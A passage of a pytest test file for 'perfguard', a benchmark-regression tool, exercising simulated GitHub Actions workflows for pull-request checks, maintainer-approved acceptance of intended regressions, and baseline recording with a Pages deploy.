    run = run_pr_workflow(tmp_path, origin, origin["clean"], prepared_python, runner_store)
    job: JobResult = run["job"]
    install = job.step("Install perfguard from the base branch into the job's virtualenv")
    assert install.outcome == "success", install.output
    _skip_until_built(job)
    assert job.outcome == "success", job.log
    assert annotations(job) == []
    assert job.summary.startswith(MARKER)
    for name in ("report.md", "report.html", "report.json", "verify.json", "comment.md", "results.db"):
        assert (run["artifact"] / name).stat().st_size > 0, name
    assert run["comment_job"].outcome == "success", run["comment_job"].log
    assert run["plan"]["body"].startswith(MARKER)
    assert_isolated(run)


def test_wrong_head_fails_verification_before_anything_is_timed(
    tmp_path: Path, origin: dict[str, Any], prepared_python: Path, runner_store: Path
) -> None:
    """Exit 1 from verify: the job fails, check never runs, and the failure is published."""
    run = run_pr_workflow(tmp_path, origin, origin["wrong"], prepared_python, runner_store)
    job: JobResult = run["job"]
    verify = job.step("perfguard verify")
    if "is not built yet" in verify.output:
        pytest.skip("perfguard verify is not built on this branch yet")
    assert verify.returncode == 1, verify.output
    assert job.step("perfguard check").outcome == "skipped"
    assert job.outcome == "failure"
    assert any("perfguard verify found a regression" in a for a in annotations(job))
    assert "`perfguard verify` found a regression, a broken benchmark or a failed verification" in job.summary
    assert "dilated" in job.summary
    assert (run["artifact"] / "verify.json").stat().st_size > 0
    assert run["plan"] is not None and "dilated" in run["plan"]["body"]
    assert_isolated(run)


@pytest.mark.slow
def test_the_pr_workflow_perfguard_init_writes_runs_the_same_way(
    tmp_path: Path, origin: dict[str, Any], prepared_python: Path, runner_store: Path
) -> None:
    """The workflow another repository gets from ``perfguard init`` (perfguard installed from the
    pinned requirement, here this checkout's wheel, instead of a checkout of the base branch): the
    gate, the approval, the untrusted job and the comment run as this repository's do, and a head
    that fails verification fails the job with its report published, the runner left as it was."""
    from test_guarding_external_package import _perfguard_wheel

    from perfguard.scaffold import init_repository

    wheel = _perfguard_wheel(tmp_path / "wheel")
    written = tmp_path / "written"
    (written / "pkg").mkdir(parents=True)
    (written / "pkg" / "__init__.py").write_text("")
    init_repository(written, "pkg")
    run = run_pr_workflow(
        tmp_path / "run",
        origin,
        origin["wrong"],
        prepared_python,
        runner_store,
        workflow_path=written / ".github" / "workflows" / "perfguard-pr.yml",
        vars={"PERFGUARD_REQUIREMENT": str(wheel)},
    )
    job: JobResult = run["job"]
    install = job.step("Install perfguard (pinned) into the job's virtualenv")
    assert install.outcome == "success", install.output
    verify = job.step("perfguard verify")
    assert verify.returncode == 1, verify.output
    assert job.step("perfguard check").outcome == "skipped"
    assert job.outcome == "failure"
    assert "dilated" in job.summary
    assert (run["artifact"] / "verify.json").stat().st_size > 0
    assert run["comment_job"].outcome == "success", run["comment_job"].log
    assert run["plan"] is not None and "dilated" in run["plan"]["body"]
    assert_isolated(run)


@pytest.mark.slow
def test_regressing_head_fails_the_job_with_the_report_published(
    tmp_path: Path, origin: dict[str, Any], prepared_python: Path, runner_store: Path
) -> None:
    run = run_pr_workflow(tmp_path, origin, origin["slow"], prepared_python, runner_store)
    job: JobResult = run["job"]
    _skip_until_built(job)
    assert job.step("perfguard verify").outcome == "success", job.step("perfguard verify").output
    check = job.step("perfguard check")
    if check.returncode == 0 and "unstable" in check.output:
        # The verdict policy refuses to fail a PR on a benchmark that is too noisy to decide; on a
        # busy 2-core machine that can be the right answer. Say so instead of passing silently.
        pytest.skip("this machine was too noisy for a verdict; check reported 'unstable', not 'regression'")
    assert check.returncode == 1, check.output
    assert job.outcome == "failure"
    assert any("found a regression" in a for a in annotations(job))
    assert (run["artifact"] / "report.html").stat().st_size > 0
    assert "dilated" in job.summary
    assert run["plan"] is not None and "dilated" in run["plan"]["body"]
    assert_isolated(run)


@pytest.mark.slow
def test_an_intended_regression_fails_until_a_maintainer_applies_the_acceptance_label(
    tmp_path: Path, origin: dict[str, Any], prepared_python: Path, fake_api: FakeAPI
) -> None:
    """Issue 16 through the workflow: a PR doubles dilated's work and says so in a trailer. Pushed,
    it fails (nobody approved the trailer, and the report tells the author so); once a maintainer
    adds ``perfguard-accept``, the same head runs again and passes with the items accepted, by whom,
    why and up to what, in the job summary and the PR comment."""
    store = tmp_path / "runner-store"  # a runner with no baselines: the merge-base is measured too
    store.mkdir()
    Store.open(f"sqlite:///{store / 'history.db'}").close()
    fake_api.permissions["maint"] = "write"

    pushed = run_pr_workflow(
        tmp_path / "push", origin, origin["accept"], prepared_python, store, bench=WORK_REGEX
    )
    job: JobResult = pushed["job"]
    _skip_until_built(job)
    assert pushed["approval"].outputs == {"approved_by": ""} and fake_api.calls == []
    assert job.step("perfguard check").returncode == 1, job.step("perfguard check").output
    report = (pushed["artifact"] / "report.md").read_text()
    assert report.splitlines()[1].startswith("### ❌ perfguard: 3 regressions (gated)")
    assert "⚠️ **1 acceptance ignored**" in report and "not approved by a maintainer" in report
    assert_isolated(pushed)

    fake_api.label(PR_NUMBER, "maint")
    labeled = pr_event(origin["accept"], action="labeled", label="perfguard-accept", sender="maint")
    approved = run_pr_workflow(
        tmp_path / "label", origin, origin["accept"], prepared_python, store, bench=WORK_REGEX,
        event=labeled, api=fake_api,
    )  # fmt: skip
    job = approved["job"]
    assert approved["approval"].outputs == {"approved_by": "maint"}, approved["approval"].log
    assert job.outcome == "success", job.log
    assert annotations(job) == []
    report = (approved["artifact"] / "report.md").read_text()
    headline = report.splitlines()[1]
    assert headline.startswith("### ✅ perfguard: 3 accepted · 0 regressions (gated)"), headline
    assert f"`dilated Work.*` up to **×2.1**: “{ACCEPT_REASON}”" in report
    assert f"approved by maint · Perfguard-Accept trailer in {origin['accept'][:10]}" in report
    document = json.loads((approved["artifact"] / "report.json").read_text())
    [acceptance] = document["summary"]["acceptances"]["applied"]
    assert acceptance["approved_by"] == "maint" and len(acceptance["accepted"]) == 3
    assert {i["ratio"] for i in document["items"] if i["verdict"] == "accepted"} == {2.0}
    assert headline in job.summary
    assert approved["plan"] is not None and "approved by maint" in approved["plan"]["body"]
    assert_isolated(approved)


# --------------------------------------------------------------------------------------------------
# The baseline workflow: record on the GPU runner, render the site, hand it to the Pages deploy


def record_baseline(
    tmp: Path, origin: dict[str, Any], sha: str, prepared_python: Path, store: Path, api: FakeAPI
) -> dict[str, Any]:
    """The baseline workflow for a push of ``sha`` to main: approval, record (GPU runner), deploy."""
    workflow = load_workflow(WORKFLOWS / "perfguard-main.yml")
    pages = tmp / "pages"
    event = {"repository": {"full_name": REPO, "default_branch": "main"}, "ref": "refs/heads/main"}
    approver = make_runner(
        tmp / "approval", event, event_name="push", sha=sha, ref="refs/heads/main",
        base_env={"PATH": os.environ["PATH"]}, api_url=api.url,
    )  # fmt: skip
    approver.workspace.parent.mkdir(parents=True, exist_ok=True)
    approver.handlers = {"actions/checkout": checkout_handler(origin["url"], approver.workspace, at=sha)}
    approval = approver.run_job(workflow, "approval")
    runner = make_runner(
        tmp / "gpu",
        event,
        event_name="push",
        sha=sha,
        ref="refs/heads/main",
        vars={
            "PERFGUARD_PYTHON": str(prepared_python),
            "PERFGUARD_PROFILE": "quick",
            "PERFGUARD_BENCH": OPS_REGEX,
        },
        base_env={
            "PATH": os.environ["PATH"],
            "HOME": os.environ.get("HOME", str(tmp)),
            "PERFGUARD_DB": f"sqlite:///{store}/history.db",
            # where PR runners read the baselines from (docs/ci.md, "Runner pools")
            "PERFGUARD_BASELINE_SNAPSHOT": str(tmp / "published" / "baseline.db"),
        },
    )
    (tmp / "published").mkdir(parents=True)
    runner.workspace.parent.mkdir(parents=True, exist_ok=True)
    runner.handlers = {
        "actions/checkout": checkout_handler(origin["url"], runner.workspace, at=sha),
        "actions/upload-pages-artifact": copy_tree_handler(pages),
        "actions/upload-artifact": copy_tree_handler(tmp / "artifacts"),
    }
    record = runner.run_job(workflow, "record", needs_context(approval))
    deployed: list[dict[str, Any]] = []
    deployer = make_runner(tmp / "pages-runner", event, event_name="push", sha=sha)
    deployer.handlers = {"actions/deploy-pages": lambda inputs, env: deployed.append(inputs)}
    deploy = deployer.run_job(workflow, "deploy", needs_context(record))
    return {
        "approval": approval,
        "record": record,
        "deploy": deploy,
        "deployed": deployed,
        "site": pages / "github-pages",
        "snapshot": tmp / "published" / "baseline.db",
        "runner": runner,
    }


def warnings(job: JobResult) -> list[str]:
    return [line for step in job.steps for line in step.output.splitlines() if line.startswith("::warning")]


@pytest.mark.slow
def test_baseline_workflow_records_renders_and_deploys(
    tmp_path: Path, origin: dict[str, Any], prepared_python: Path, runner_store: Path, fake_api: FakeAPI
) -> None:
    """Two pushes to main: the base commit, then one that doubles dilated's work without any check.
    The second is flagged by the workflow's `perfguard changes` step (annotation, job summary) and on
    the published site (issue 16)."""
    prepared_before = _listing(prepared_python.parent.parent)
    first = record_baseline(
        tmp_path / "first", origin, origin["base"], prepared_python, runner_store, fake_api
    )
    record, deploy = first["record"], first["deploy"]
    assert first["approval"].outputs == {"approved_by": ""}  # pushed directly: no pull request
    assert (f"/repos/{REPO}/commits/{origin['base']}/pulls", "Bearer ***") in fake_api.calls
    assert record.step("Install perfguard into the job's virtualenv").outcome == "success", record.log
    for name in ("perfguard run", "perfguard report"):
        if "is not built yet" in record.step(name).output:
            # Until `run`/`report` land: the failure is explained and nothing is published.
            assert record.outcome == "failure" and deploy.outcome == "skipped" and first["deployed"] == []
            assert record.summary.startswith(MARKER) and "is not built yet" in record.summary
            pytest.skip(f"{name} is not built on this branch yet")
    assert record.outcome == "success", record.log
    assert (first["site"] / "index.html").stat().st_size > 0
    assert deploy.outcome == "success" and first["deployed"] == [{}]
    # The first recorded commit: nothing to compare it with, nothing flagged.
    assert "is the first commit recorded" in record.step("perfguard changes").output
    assert warnings(record) == []
    # The snapshot PR runners read: read-only, with this commit's runs.
    snapshot = first["snapshot"]
    assert snapshot.stat().st_mode & 0o777 == 0o444
    with Store.open(f"sqlite:///{snapshot}", read_only=True) as published:
        assert any(m.key for m in published.machines())
        assert published.distinct("impl") == ["dilated"]
    assert _listing(prepared_python.parent.parent) == prepared_before  # nothing installed into it
    assert not list(first["runner"].home.glob("_temp-record-*/perfguard-venv"))  # removed by the last step

    # The next push doubles dilated's forward; no check ran on it.
    second = record_baseline(
        tmp_path / "second", origin, origin["next"], prepared_python, runner_store, fake_api
    )
    record = second["record"]
    assert record.outcome == "success", record.log  # a flag warns, it does not fail the recording
    changes = record.step("perfguard changes")
    assert changes.returncode == 0, changes.output
    report = json.loads(
        (tmp_path / "second" / "artifacts" / "perfguard-baseline-logs" / "changes.json").read_text()
    )
    [step] = report["steps"]
    assert step["flagged"] and step["impl"] == "dilated" and step["ratio"] == 2.0
    assert report["previous"] == origin["base"]
    [warning] = warnings(record)
    # (the title escaped as workflow commands need it: ":" is %3A)
    assert (
        f"title=perfguard%3A dilated Work.track_forward_ops 2.00x worse at {origin['next'][:10]}" in warning
    )
    assert f"### perfguard: 1 unaccepted step(s) at `{origin['next'][:10]}`" in record.summary
    # ... and on the published site, first thing on the index, and on the chart at that commit.
    index = (second["site"] / "index.html").read_text()
    assert 'id="unaccepted-steps"' in index and f'data-sha="{origin["next"]}"' in index
    pages = [p.read_text() for p in (second["site"] / "bench").glob("work-track-forward-ops-dilated-*.html")]
    assert len(pages) == 1 and 'class="flag flag-flagged"' in pages[0]
    assert second["deploy"].outcome == "success"
